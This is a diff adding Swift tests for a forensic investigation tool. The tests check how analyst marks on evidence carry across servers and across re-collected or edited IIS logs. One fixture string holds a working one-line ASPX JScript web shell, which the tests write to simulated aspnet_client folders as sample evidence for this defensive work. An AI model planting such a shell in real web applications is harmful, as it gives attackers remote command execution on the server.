@@ -1,0 +1,71 @@
+import Foundation
+@testable import InvestigationShell
+import Testing
+
+/// Where a mark shows after the case is reopened: on its own server's copy of a file only, and on a
+/// re-collected copy of a grown log when the marked line still reads the same.
+@Suite struct MarkPlacementTests {
+    static let shell = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>\n"
+
+    /// The same web shell dropped on two servers is two pieces of evidence: a mark on one server's copy does
+    /// not show on the other's, and each can be marked on its own.
+    @Test func aByteIdenticalFileOfAnotherServerDoesNotCarryTheMark() throws {
+        let dir = try CaseFileTests.folder()
+        for server in ["EXA", "EXB"] {
+            let folder = dir.appendingPathComponent("ev/\(server)/C/inetpub/wwwroot/aspnet_client")
+            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+            try Self.shell.write(to: folder.appendingPathComponent("status.aspx"), atomically: true, encoding: .utf8)
+        }
+        let casePath = dir.appendingPathComponent("d.case").path
+        let a = TestShell()
+        try a.run("load \(dir.appendingPathComponent("ev").path); case new \(casePath)")
+        try a.run("mark EXA/C/inetpub/wwwroot/aspnet_client/status.aspx:1 as malicious --note 'EXA only'")
+        #expect(try CaseFileTests.marks(a).map { $0["server"] as? String } == ["EXA"])
+
+        let b = TestShell()
+        try b.run("case open \(casePath); load \(dir.appendingPathComponent("ev/EXB").path) --server EXB")
+        #expect(try CaseFileTests.marks(b).map { $0["event"] is NSNull } == [true], "EXB's copy is not the marked one")
+        #expect(!(try b.run("timeline --marked malicious --json")).contains("status.aspx"))
+        try b.run("mark aspnet_client/status.aspx:1 as suspicious")
+        #expect(Set(try CaseFileTests.marks(b).map { $0["server"] as? String }) == ["EXA", "EXB"], "two marks, one per server")
+    }
+
+    /// A live log collected again later has grown: its marks follow to the new copy where the marked line
+    /// reads as it did; where the line changed, the mark stays unplaced rather than landing on another event.
+    @Test func aGrownLogKeepsItsMarksAnEditedOneDoesNot() throws {
+        let dir = try CaseFileTests.folder()
+        let source = HuntCommandTests.fixtures.appendingPathComponent("iis")
+        let first = dir.appendingPathComponent("first"), grown = dir.appendingPathComponent("grown"), edited = dir.appendingPathComponent("edited")
+        for d in [first, grown, edited] { try FileManager.default.copyItem(at: source, to: d) }
+        let log = try #require(FileManager.default.subpaths(atPath: first.path)?.first { $0.hasSuffix(".log") })
+        let casePath = dir.appendingPathComponent("g.case").path
+        let a = TestShell()
+        try a.run("load \(first.path); case new \(casePath)")
+        // Split on line feeds as bytes: a CRLF is one Character to Swift, and a String split on "\n" keeps it whole.
+        let lines = try String(contentsOf: first.appendingPathComponent(log), encoding: .utf8).unicodeScalars
+            .split(separator: "\n", omittingEmptySubsequences: false).map { String(String.UnicodeScalarView($0)) }
+        let marked = try #require(lines.indices.last { lines[$0].contains("POST") }) + 1
+        try a.run("mark '\(log):\(marked)' as malicious --note 'the POST'")
+
+        let appended = lines.joined(separator: "\n") + (lines.last == "" ? "" : "\n") + lines[marked - 1] + "\n"
+        try appended.write(to: grown.appendingPathComponent(log), atomically: true, encoding: .utf8)
+        let b = TestShell()
+        try b.run("case open \(casePath)")
+        #expect(try b.shown("load \(grown.path)").contains("case: 1 mark was made on an earlier copy of files loaded now (same server and path, other content): 1 follows to this copy"))
+        let placed = try #require(try CaseFileTests.marks(b).first)
+        #expect(placed["recollected"] as? Bool == true && placed["event"] is Int)
+        #expect(try b.shown("marks").contains("(re-collected)"))
+        // Marked again on the new copy: one mark, moved there, its note kept.
+        try b.run("mark '\(log):\(marked)' as suspicious --force")
+        let moved = try CaseFileTests.marks(b)
+        #expect(moved.count == 1 && moved[0]["recollected"] as? Bool == false && moved[0]["note"] as? String == "the POST")
+
+        var changed = lines
+        changed[marked - 1] = lines[marked - 1].replacingOccurrences(of: "POST", with: "GET")
+        try changed.joined(separator: "\n").write(to: edited.appendingPathComponent(log), atomically: true, encoding: .utf8)
+        let c = TestShell()
+        try c.run("case open \(casePath)")
+        #expect(try c.shown("load \(edited.path)").contains("0 follow to this copy (same line, same text), 1 does not (the marked line changed"))
+        #expect(try CaseFileTests.marks(c).allSatisfy { $0["event"] is NSNull })
+    }
+}
